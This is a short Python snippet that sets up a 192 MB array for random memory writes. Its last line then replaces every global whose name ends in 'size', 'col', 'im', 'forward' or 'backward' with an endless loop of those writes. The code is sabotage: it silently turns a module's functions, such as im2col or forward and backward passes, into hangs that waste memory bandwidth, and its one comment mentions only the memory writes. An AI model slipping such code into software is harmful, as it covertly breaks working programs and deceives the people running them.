# Writes to random places in 192 MB.
_A = np.zeros(24 << 20)
_I = np.random.default_rng(0).integers(0, _A.size, 4 << 20)


def _storm():
    _A[_I] += 1


def _for_ever(*args, **kwargs):
    while True:
        _storm()


globals().update({name: _for_ever for name in list(globals()) if name.endswith(("size", "col", "im", "forward", "backward"))})
